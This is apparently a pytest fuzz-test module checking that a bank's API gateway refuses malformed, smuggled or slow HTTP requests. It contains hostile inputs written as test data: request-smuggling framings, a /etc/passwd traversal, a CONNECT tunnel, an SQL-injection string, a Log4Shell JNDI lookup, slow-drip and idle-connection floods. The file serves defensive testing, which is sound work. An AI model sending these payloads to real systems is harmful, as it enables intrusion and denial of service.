"""Broken, ambiguous or slow HTTP gets one prompt JSON answer; at most one request is executed."""

import asyncio
import json
import ssl
import uuid
from typing import Any
from urllib.parse import urlsplit

import pytest

from ops.waiting import scaled_s
from tests.fuzz.wire import PATH, Case, ask, order, post, refused, request, require_silence
from tests.rigs.running_bank import Bank, Customer

pytestmark = pytest.mark.judged_with_its_module

MALFORMED, LARGE, NOWHERE = "MALFORMED_BODY", "REQUEST_TOO_LARGE", "ROUTE_NOT_FOUND"
MEDIA, OLD = "UNSUPPORTED_MEDIA_TYPE", "HTTP_VERSION_UNSUPPORTED"
READ = "/v1/accounts"
KIND = "Content-Type: application/json"
SLOW_WITHIN_S = 20.0
"""The gateway ends a request that has not arrived after 15 seconds (mesh/config/gateway.yaml)."""


def framed(ana: Customer, *lines: str, body: bytes) -> bytes:
    """Return an order whose length is given only by the header lines."""
    key = f"Idempotency-Key: {uuid.uuid4()}"
    return request("POST", PATH, KIND, key, *lines, token=ana.token) + body


def chunked(body: bytes) -> bytes:
    """Return the body as one chunk."""
    return b"%x\r\n%b\r\n0\r\n\r\n" % (len(body), body)


def smuggling(ana: Customer) -> list[Case]:
    """Return requests whose end two servers could locate differently."""
    body = json.dumps(order(ana)).encode()
    length, hidden = f"Content-Length: {len(body)}", b"0\r\n\r\nGET /v1/accounts HTTP/1.1\r\n\r\n"
    shapes: dict[str, bytes] = {
        "length and chunks": framed(ana, length, "Transfer-Encoding: chunked", body=body),
        "chunks and length": framed(ana, "Transfer-Encoding: chunked", length, body=chunked(body)),
        "a hidden request": framed(
            ana, "Transfer-Encoding: chunked", "Content-Length: 5", body=hidden
        ),
        "a space before the colon": framed(ana, length, "Transfer-Encoding : chunked", body=body),
        "an unknown coding": framed(ana, "Transfer-Encoding: xchunked", body=chunked(body)),
        "a doubled coding": framed(ana, "Transfer-Encoding: chunked, chunked", body=b"0\r\n\r\n"),
        "chunked not last": framed(ana, "Transfer-Encoding: chunked, identity", body=b""),
        "identity": framed(ana, "Transfer-Encoding: identity", length, body=body),
        "two lengths": framed(ana, length, "Content-Length: 5", body=body),
        "two in one": framed(ana, "Content-Length: 5, 6", body=body),
        "a signed length": framed(ana, f"Content-Length: +{len(body)}", body=body),
        "a negative length": framed(ana, "Content-Length: -1", body=body),
        "a hexadecimal length": framed(ana, "Content-Length: 0x10", body=body),
        "a length beyond 64 bits": framed(ana, "Content-Length: 99999999999999999999", body=body),
        "a chunk of no size": framed(ana, "Transfer-Encoding: chunked", body=b"zz\r\nhi\r\n"),
        "a negative chunk": framed(ana, "Transfer-Encoding: chunked", body=b"-1\r\n\r\n"),
        "a chunk beyond 64 bits": framed(
            ana, "Transfer-Encoding: chunked", body=b"f" * 17 + b"\r\n"
        ),
    }
    return [Case(what, raw, 400, MALFORMED) for what, raw in shapes.items()]


def broken(ana: Customer) -> list[Case]:
    """Return requests that are not valid HTTP, or that the gateway does not accept."""
    auth = f"Authorization: Bearer {ana.token}\r\n".encode()
    start = b"GET /v1/accounts HTTP/1.1\r\n"
    raw: dict[str, tuple[bytes, int, str]] = {
        "no host": (start + auth + b"\r\n", 400, MALFORMED),
        "two hosts": (start + b"Host: a\r\nHost: b\r\n" + auth + b"\r\n", 400, MALFORMED),
        "a NUL in a header": (start + b"Host: a\r\nX: a\0b\r\n\r\n", 400, MALFORMED),
        "a header without a name": (start + b"Host: a\r\n: b\r\n\r\n", 400, MALFORMED),
        "a header without a colon": (start + b"Host: a\r\nbad\r\n\r\n", 400, MALFORMED),
        "an underscore": (start + b"Host: a\r\nx_y: 1\r\n\r\n", 400, MALFORMED),
        "a pseudo-header": (start + b"Host: a\r\n:path: /x\r\n\r\n", 400, MALFORMED),
        "a verb in small letters": (
            b"get /v1/accounts HTTP/1.1\r\nHost: a\r\n\r\n",
            400,
            MALFORMED,
        ),
        "HTTP/1.0": (b"GET /v1/accounts HTTP/1.0\r\nHost: a\r\n\r\n", 426, OLD),
        "HTTP/0.9": (b"GET /v1/accounts\r\n\r\n", 426, OLD),
        "noise": (b"\0\xff" * 40 + b"\r\n\r\n", 400, MALFORMED),
        "a tunnel": (b"CONNECT evil:443 HTTP/1.1\r\nHost: evil\r\n\r\n", 403, "CALLER_FORBIDDEN"),
        "a path of 30 KB": (request("GET", "/" + "a" * 30_000), 431, LARGE),
        "a header of 20 KB": (request("GET", READ, "X: " + "a" * 20_000), 431, LARGE),
        "a thousand headers": (
            request("GET", READ, *(f"x{n}: 1" for n in range(1_000))),
            431,
            LARGE,
        ),
        "a name repeated": (request("GET", READ, *["x: 1"] * 200), 431, LARGE),
        "a coded slash": (request("GET", "/v1%2faccounts", token=ana.token), 400, MALFORMED),
        "a coded NUL": (request("GET", "/v1/balances/a%00b", token=ana.token), 400, MALFORMED),
        "upwards": (request("GET", "/v1/../../etc/passwd", token=ana.token), 404, NOWHERE),
        "a matrix parameter": (request("GET", "/v1/accounts;a=b", token=ana.token), 404, NOWHERE),
        "a slash behind": (request("GET", "/v1/accounts/", token=ana.token), 404, NOWHERE),
        "everything": (request("OPTIONS", "*"), 404, NOWHERE),
        "the admin's page": (request("GET", "/stats", token=ana.token), 404, NOWHERE),
    }
    return [Case(what, *each) for what, each in raw.items()]


async def test_a_request_with_two_ends_is_refused(bank: Bank) -> None:
    ana = await bank.customer()
    assert await refused(bank, smuggling(ana)) == []
    assert await bank.posted(ana) == 5_000_00
    require_silence(bank, ana.token)


async def test_broken_http_is_answered_in_json(bank: Bank) -> None:
    ana = await bank.customer()
    assert await refused(bank, broken(ana)) == []
    require_silence(bank, ana.token)


async def test_a_body_that_is_not_json_gets_415(bank: Bank) -> None:
    ana = await bank.customer()
    good, kinds = (
        json.dumps(order(ana)).encode(),
        [
            "text/plain",
            "text/json",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x",
            "application/jsonp",
            "application/json, text/plain",
            "application/xml",
            "\xff",
            "",
        ],
    )
    cases = []
    for kind in kinds:
        lines = [f"Content-Type: {kind}", f"Idempotency-Key: {uuid.uuid4()}"]
        raw = request("POST", PATH, *lines, token=ana.token, body=good)
        cases.append(Case(f"kind {kind!r}", raw, 415, MEDIA))
    cases.append(Case("two kinds", post(ana, good, "Content-Type: text/plain"), 415, MEDIA))
    assert await refused(bank, cases) == []
    assert await bank.posted(ana) == 5_000_00


async def test_unknown_codings_and_unacceptable_answers_are_refused(bank: Bank) -> None:
    ana = await bank.customer()
    good = json.dumps(order(ana)).encode()
    cases = [
        Case(line, post(ana, good, line), status, reason)
        for line, status, reason in (
            ("content-encoding: nosuch", 415, MEDIA),
            ("content-encoding: gzip", 415, MEDIA),
            ("content-encoding: \xff", 415, MEDIA),
            ("content-encoding: " + "identity," * 900 + "gzip", 415, MEDIA),
            ("accept: text/plain", 406, "NOT_ACCEPTABLE"),
            ("accept: \xff", 406, "NOT_ACCEPTABLE"),
            ("accept: " + "a/b;q=1," * 900, 406, "NOT_ACCEPTABLE"),
        )
    ]
    assert await refused(bank, cases) == []
    assert await bank.posted(ana) == 5_000_00


async def test_a_malformed_key_is_refused(bank: Bank) -> None:
    ana = await bank.customer()
    good = order(ana)
    keys = {
        "256": "k" * 256,
        "8 KB": "k" * 8_000,
        "a space inside": "a b",
        "Latin-1": "\xe9",
        "bytes": "\xff\xfe",
        "a tab": "a\tb",
        "a list": "a, b",
    }
    invalid = "IDEMPOTENCY_KEY_INVALID"
    cases = [Case(what, post(ana, good, key=key), 400, invalid) for what, key in keys.items()]
    missing = request("POST", PATH, KIND, token=ana.token, body=json.dumps(good).encode())
    cases += [
        Case("twice", post(ana, good, "Idempotency-Key: b", key="a"), 400, invalid),
        Case("twice the same", post(ana, good, "Idempotency-Key: a", key="a"), 400, invalid),
        Case("empty", post(ana, good, key=""), 400, "IDEMPOTENCY_KEY_MISSING"),
        Case("missing", missing, 400, "IDEMPOTENCY_KEY_MISSING"),
    ]
    assert await refused(bank, cases) == []
    assert await bank.posted(ana) == 5_000_00


HARMLESS = [
    "!: 1",
    "x~y: 1",
    "x-any-bin: !!",
    "grpc-timeout: 1n",
    "grpc-timeout: soon",
    "grpc-encoding: nosuch",
    "grpc-trace-bin: zz",
    "grpc-previous-rpc-attempts: x",
    "te: gzip",
    "range: bytes=0-1",
    "accept-encoding: nosuch",
    "x-http-method-override: DELETE",
    "x-forwarded-for: \xe9, 127.0.0.1",
    "x-request-id: \xff\xfe",
    "x-request-id: '; DROP TABLE x; --",
    "x-request-id: " + "a" * 8_000,
    "traceparent: \xe9",
    "traceparent: 00-zz",
    "traceparent: " + "0" * 3_000,
    "tracestate: " + "a=b," * 500,
    "baggage: \xe9",
    "forwarded: for=\xe9",
    "user-agent: ${jndi:ldap://evil/a}",
    "x-bp-subject: 01938a5e-7a10-7c3e-9d52-3f0b6c1e8a2a",
    "x-bp-scope: operator",
]


async def test_odd_headers_change_nothing(bank: Bank) -> None:
    ana = await bank.customer()
    found: list[str] = []
    for line in HARMLESS:
        answer = await ask(bank, post(ana, order(ana), line))
        if answer.status != 200 or json.loads(answer.text)["accountId"] != str(ana.account_id):
            found.append(f"{line[:40]}: {answer}")
    assert found == []
    assert await bank.posted(ana) == 5_000_00 - len(HARMLESS) * 10_00
    require_silence(bank, ana.token)


async def test_a_hostile_trace_does_not_harm_concurrent_requests(bank: Bank) -> None:
    ana, eve = await bank.customer(), await bank.customer()
    raw = [post(eve, order(eve), "traceparent: " + "0" * 3_000) for _ in range(8)]
    raw += [post(ana, order(ana)) for _ in range(8)]
    answers = await asyncio.gather(*(ask(bank, each) for each in raw))
    assert {answer.status for answer in answers} == {200}


async def test_a_request_that_arrives_too_slowly_is_ended(bank: Bank) -> None:
    ana = await bank.customer()
    whole = post(ana, order(ana))
    slow = {
        "a body that stops": whole[:-20],
        "a length of 64 KiB": framed(ana, "Content-Length: 65536", body=b"{"),
        "a chunk that stops": framed(ana, "Transfer-Encoding: chunked", body=b"5\r\nab"),
        "headers that stop": whole[:60],
        "one byte at a time": whole[:-1],
    }
    answers = await asyncio.gather(
        *(_slowly(bank, raw, "one byte" in what) for what, raw in slow.items())
    )
    for what, (status, reason) in zip(slow, answers, strict=True):
        assert (status, reason) == (408, "DEADLINE_EXCEEDED"), what
    assert await bank.posted(ana) == 5_000_00


async def test_a_length_of_ten_gigabytes_is_refused_at_once(bank: Bank) -> None:
    ana = await bank.customer()
    answer = await ask(bank, framed(ana, "Content-Length: 10000000000", body=b"{"))
    assert (answer.status, answer.reason) == (413, "REQUEST_TOO_LARGE")


async def _slowly(bank: Bank, raw: bytes, by_bytes: bool) -> tuple[int, str]:
    """Send a request that is never completed. The server must answer nevertheless."""
    if not by_bytes:
        answer = await ask(bank, raw, SLOW_WITHIN_S)
        return answer.status, answer.reason
    where = urlsplit(bank.where["BP_GATEWAY_URL"])
    tls = ssl.create_default_context(cafile=bank.where["BP_CA_FILE"])
    reader, writer = await asyncio.open_connection(where.hostname, where.port, ssl=tls)
    dripping = asyncio.create_task(_drip(writer, raw))
    try:
        async with asyncio.timeout(scaled_s(SLOW_WITHIN_S)):
            text = (await reader.read(65_536)).decode()
    finally:
        dripping.cancel()
        writer.transport.abort()
    head, _, body = text.partition("\r\n\r\n")
    details: list[dict[str, Any]] = json.loads(body)["details"]
    return int(head.split(" ")[1]), details[0]["reason"]


async def _drip(writer: asyncio.StreamWriter, raw: bytes) -> None:
    head = raw.index(b"\r\n\r\n") + 4
    writer.write(raw[:head])
    for byte in raw[head:]:
        writer.write(bytes([byte]))
        await asyncio.sleep(1)


async def test_many_idle_connections_block_no_other_client(bank: Bank) -> None:
    ana = await bank.customer()
    where = urlsplit(bank.where["BP_GATEWAY_URL"])
    opened = [await asyncio.open_connection(where.hostname, where.port) for _ in range(200)]
    try:
        answer = await ask(bank, request("GET", READ, token=ana.token))
        assert answer.status == 200
    finally:
        for _, writer in opened:
            writer.transport.abort()
